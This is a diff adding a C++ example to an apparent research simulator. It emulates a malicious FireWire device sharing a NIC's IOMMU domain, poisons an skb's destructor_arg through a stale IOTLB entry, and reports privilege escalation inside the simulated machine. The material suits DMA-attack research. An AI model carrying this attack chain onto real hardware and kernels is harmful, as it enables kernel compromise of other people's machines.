@@ -1,0 +1,98 @@
+// The §6 experimental setup: a programmable FireWire accessory emulating a
+// malicious NIC by sharing the NIC's IOVA page table (one IOMMU domain).
+// The NIC does completely normal I/O; the FireWire device — driven by the
+// attacker machine over the cable — performs every malicious DMA.
+//
+//   $ ./build/examples/firewire_testbed
+
+#include <cstdio>
+#include <vector>
+
+#include "attack/kaslr_break.h"
+#include "attack/mini_cpu.h"
+#include "attack/poison.h"
+#include "core/machine.h"
+#include "device/device_port.h"
+#include "device/malicious_nic.h"
+#include "net/layouts.h"
+
+using namespace spv;
+
+int main() {
+  std::printf("== §6 testbed: FireWire sharing the NIC's IOVA page table ==\n\n");
+
+  core::MachineConfig config;
+  config.seed = 66;
+  config.iommu.mode = iommu::InvalidationMode::kDeferred;
+  core::Machine machine{config};
+
+  // The victim NIC (LIO-emulated in the paper; benign here).
+  net::NicDriver::Config driver_config;
+  driver_config.name = "bcm5720";
+  driver_config.rx_ring_size = 8;
+  driver_config.rx_buf_len = 1728;
+  net::NicDriver& nic = machine.AddNicDriver(driver_config);
+  device::MaliciousNic nic_model{device::DevicePort{machine.iommu(), nic.device_id()}};
+  nic.AttachDevice(&nic_model);
+  machine.stack().set_egress(&nic);
+  attack::MiniCpu cpu{machine.kmem(), machine.layout()};
+  machine.stack().set_callback_invoker(&cpu);
+
+  // The VT6315 FireWire controller, put in the SAME translation domain.
+  const DeviceId firewire{99};
+  if (!machine.iommu().AttachDeviceToDomainOf(firewire, nic.device_id()).ok()) {
+    std::printf("failed to share the domain\n");
+    return 1;
+  }
+  device::DevicePort fw_port{machine.iommu(), firewire};
+  std::printf("FireWire attached to the NIC's domain: SameDomain=%s\n\n",
+              machine.iommu().SameDomain(firewire, nic.device_id()) ? "true" : "false");
+
+  (void)nic.FillRxRing();
+
+  // The attacker machine sees the emulated NIC's descriptors (it *is* the
+  // NIC, per the LIO emulation) and DMAs through the FireWire controller.
+  const net::RxPostedDescriptor descriptor = nic_model.rx_posted().front();
+  std::printf("NIC posted RX buffer: iova=0x%llx len=%u — FireWire writes it:\n",
+              static_cast<unsigned long long>(descriptor.iova.value), descriptor.buf_len);
+
+  // Plant the Fig-4 poison through the FireWire port.
+  attack::KaslrKnowledge knowledge;
+  knowledge.text_base = machine.layout().text_base();  // (bootstrap as in §5.4)
+  const uint64_t poison_off = 512;
+  // KVA of the poison: the demo derives it the RingFlood way — for brevity we
+  // compute it from the machine (the compound attacks show the honest path).
+  const Kva buf_kva = *nic.RxSlotKva(descriptor.index);
+  auto image = *attack::BuildPoisonImage(knowledge, (buf_kva + poison_off).value);
+  bool wrote = fw_port.Write(descriptor.iova + poison_off, image).ok();
+  std::printf("  poison image via FireWire: %s\n", wrote ? "written" : "FAILED");
+
+  // Packet arrives (NIC behaves normally), driver builds the skb...
+  net::PacketHeader header{.src_ip = 1, .dst_ip = 2, .dst_port = 9,
+                           .proto = net::kProtoUdp};
+  std::vector<uint8_t> payload(32, 0x11);
+  auto index = nic_model.InjectRx(header, payload);
+  auto skb = nic.CompleteRx(*index, net::PacketHeader::kSize + 32);
+  if (!skb.ok()) {
+    std::printf("rx failed\n");
+    return 1;
+  }
+
+  // ...and the FireWire re-poisons destructor_arg through the stale IOTLB
+  // entry the NIC itself warmed (shared domain tag!).
+  const uint64_t shinfo_off = (*skb)->shared_info() - (*skb)->head;
+  uint64_t arg = (buf_kva + poison_off).value;
+  std::vector<uint8_t> arg_bytes(8);
+  std::memcpy(arg_bytes.data(), &arg, 8);
+  wrote = fw_port
+              .Write(descriptor.iova + shinfo_off + net::SharedInfoLayout::kDestructorArg,
+                     arg_bytes)
+              .ok();
+  std::printf("  destructor_arg via FireWire (stale IOTLB, shared domain): %s\n",
+              wrote ? "written" : "FAILED");
+
+  (void)machine.stack().NapiGroReceive(std::move(*skb));
+  std::printf("\nskb released -> callback fired -> privilege escalated: %s\n",
+              cpu.privilege_escalated() ? "YES" : "no");
+  return cpu.privilege_escalated() ? 0 : 1;
+}
